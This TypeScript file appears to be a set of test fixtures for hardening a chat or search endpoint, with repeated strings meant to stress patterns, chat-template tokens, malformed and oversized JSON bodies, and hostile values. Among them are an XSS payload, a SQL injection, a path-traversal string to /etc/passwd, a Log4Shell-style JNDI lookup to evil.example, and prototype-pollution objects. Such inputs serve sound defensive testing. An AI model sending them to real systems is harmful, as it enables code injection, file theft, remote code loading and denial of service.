/** Made to hurt patterns that look for a beginning or an end again and again. */
const units: readonly string[] = [
  " ",
  "\n",
  "\t \n",
  "\u0001",
  "\u200b",
  "x",
  "漢",
  "👩‍🔬",
  "…",
  "**a ",
  "[1",
  "<<",
  "<<a",
  "`",
  "```\n",
  "<think>",
  "</source>",
  "<|im_end|>",
  "what is ",
];

/** Texts that a visitor may send, as long as a question may be: runs of blanks, control signs, words and marks without an end. */
export const hurtfulTexts: readonly string[] = units.flatMap((unit) => {
  const run = unit.repeat(Math.floor(7_900 / unit.length));
  return [`What is ${run}`, `${run} who?`];
});

/** Values that are wrong nearly everywhere, or look like an attack. */
export const hostileValues: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  "",
  " \n\t",
  [],
  {},
  [[[[]]]],
  "x".repeat(9_000),
  "\u0000\u202e\ufeff",
  "\ud800",
  "<img src=x onerror=alert(1)>",
  "'; DROP TABLE passages; --",
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example}",
  { __proto__: null, constructor: { prototype: { polluted: true } } },
  Array.from({ length: 2_000 }, () => 0),
];

/** Bodies that are no JSON object, or more of one than anybody should send. */
export const hostileBodies: readonly (string | Uint8Array<ArrayBuffer>)[] = [
  "",
  "{",
  "null",
  "[]",
  "hello",
  "\ufeff{}",
  '{"messages":[],}',
  '{"__proto__":{"messages":[]},"constructor":1}',
  `{"a":${"[".repeat(50_000)}${"]".repeat(50_000)}}`,
  `{"messages":"${"x".repeat(5_000_000)}"}`,
  `{"messages":[${"0,".repeat(300_000)}0]}`,
  `{"messages":[{"role":"user","content":"${"x ".repeat(300_000)}"}]}`,
  `"${'\\"'.repeat(60_000)}`,
  Uint8Array.of(0x7b, 0xff, 0xfe, 0x00, 0x7d),
];
